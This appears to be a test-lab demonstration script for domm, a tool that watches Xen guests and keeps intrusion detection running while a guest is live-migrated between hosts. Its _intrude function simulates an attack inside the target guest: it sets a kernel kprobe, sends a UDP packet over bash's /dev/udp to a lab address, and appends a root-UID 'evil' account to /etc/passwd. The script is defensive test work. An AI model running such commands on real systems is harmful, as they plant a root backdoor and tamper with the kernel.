# SPDX-License-Identifier: GPL-3.0-or-later
"""The README's demonstration: from nothing to a pair that is migrated while it is watched."""

import shlex
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

from . import guests, packages
from .base import GUESTS, HOSTS, say, wait_for
from .lab import BOOTED, DEMO

MEMORY = "/run/domm/target1/mem"
DISK = "/run/domm-storage/target1/0"


def _show(machine, command):
    """Runs a command on a machine as its user would see it."""
    print(f"\n{machine.name}# {command}", flush=True)
    subprocess.run([*machine.ssh_command(), command], stdin=subprocess.DEVNULL, check=True, timeout=900,
                   stderr=sys.stdout)


def _show_in(host, guest, command):
    _show(host, f"in-guest {guest.name} {shlex.quote(command)}")


def _background(host, guest, command, log):
    """Starts a program in a guest, which goes on after the guest has moved."""
    guests.in_guest(host, guest, f"setsid {command} >{log} 2>&1 </dev/null &")


def _start_watching(host, monitor):
    """Three kinds of intrusion detection, by unmodified programs of Debian and by domm's own."""
    aide = [f"database_in=file:/tmp/aide.db", "database_out=file:/tmp/aide.db", f"{DISK}/etc sha256"]
    guests.in_guest(host, monitor, f"printf '%s\\n' {' '.join(map(shlex.quote, aide))} > /tmp/aide.conf; "
                                "aide --config /tmp/aide.conf --init >/dev/null", timeout=600)
    guests.in_guest(host, monitor, f"domm-kernel-check baseline -o /tmp/baseline {MEMORY}", timeout=600)
    _background(host, monitor, f"domm-kernel-check check -b /tmp/baseline -i 15 -j {MEMORY}", "/tmp/kernel")
    _background(host, monitor, "ngrep -l -q -d eth1 -W single 'EVIL-[A-Z]+' udp", "/tmp/packets")
    wait_for("ngrep in domm1", lambda: guests.in_guest(host, monitor, "pgrep ngrep", check=False), 60)


def _intrude(host, target):
    """What an intruder might do: a breakpoint in the kernel's text, a packet, a changed file."""
    guests.in_guest(host, target, """
        mount -t tracefs none /sys/kernel/tracing 2>/dev/null
        cd /sys/kernel/tracing
        for at in 9 10 11 12 13 14 15 16 17 18 20 24; do
            echo "p:evil __x64_sys_sethostname+$at" > kprobe_events 2>/dev/null && break
        done
        echo 1 > events/kprobes/evil/enable
        bash -c 'echo EVIL-OUTBOUND > /dev/udp/10.99.0.3/4444'
        echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd; sync""")


def _seen(host, monitor):
    """Waits until all three have noticed."""
    def alarms():
        return guests.in_guest(host, monitor, "grep -q changed /tmp/kernel && grep -q EVIL-OUT /tmp/packets && "
                                           "! aide --config /tmp/aide.conf --check >/tmp/files && echo yes",
                               check=False, timeout=300)
    wait_for("the three alarms", lambda: "yes" in alarms(), 180)


def _steps(lab):
    """What happens, and about how many seconds each step takes: less where a lab is kept."""
    booted, kept = lab.keeps(BOOTED), lab.keeps(DEMO)
    return [("two Xen hosts and a file server" + ("" if booted else ": their images are built, and they boot"),
             3 if booted else 200),
            ("the target, a guest to be watched, and domm, built from this tree", 5 if kept else 60),
            ("a monitor for the target, by domm create", 30),
            ("intrusion detection in the monitor", 45),
            ("both move to the other host, in step", 60),
            ("the same programs go on watching, at the other host", 30)]


def run(lab):
    steps = _steps(lab)
    total = sum(seconds for _, seconds in steps)
    say(f"{len(steps)} steps, about {total // 60} min {total % 60} s on two cores without KVM")

    def step(number):
        what, seconds = steps[number - 1]
        say(f"step {number} of {len(steps)}: {what} (about {seconds} s)")

    with ThreadPoolExecutor() as pool:
        # The compiler and the machines that boot share two cores well.
        pool.submit(packages.build, packages.GUESTS_SUITE)
        step(1)
        lab.up({host: "current" for host in HOSTS}, 1, 2048)
        step(2)
        lab.up_for_demo()
    host1, host2 = lab.hosts()
    target, monitor = GUESTS["target1"], GUESTS["domm1"]
    host1.run("cat > /etc/xen/watch.cfg", input=guests.watch_config(monitor, target))
    _show(host1, "domm version")
    step(3)
    _show(host1, "domm create /etc/xen/watch.cfg")
    _show(host1, "domm monitor-status")
    step(4)
    _start_watching(host1, monitor)
    processes = "pgrep -a 'ngrep|domm-kernel|domm-agent'; cat /proc/sys/kernel/random/boot_id"
    _show_in(host1, monitor, processes)
    step(5)
    _show(host1, "domm migrate domm1 host2")
    step(6)
    _show(host1, "domm list")
    _show(host2, "domm list")
    _show(host2, "domm monitor-status")
    _show_in(host2, monitor, processes)
    _intrude(host2, target)
    _seen(host2, monitor)
    _show_in(host2, monitor, "grep -m 1 changed /tmp/kernel; grep -m 1 EVIL-OUT /tmp/packets; "
                             "grep -m 1 etc/passwd /tmp/files")
    say("the lab stays up: 'tests/lab/lab --help' says what else it does, 'tests/lab/lab down' ends it")
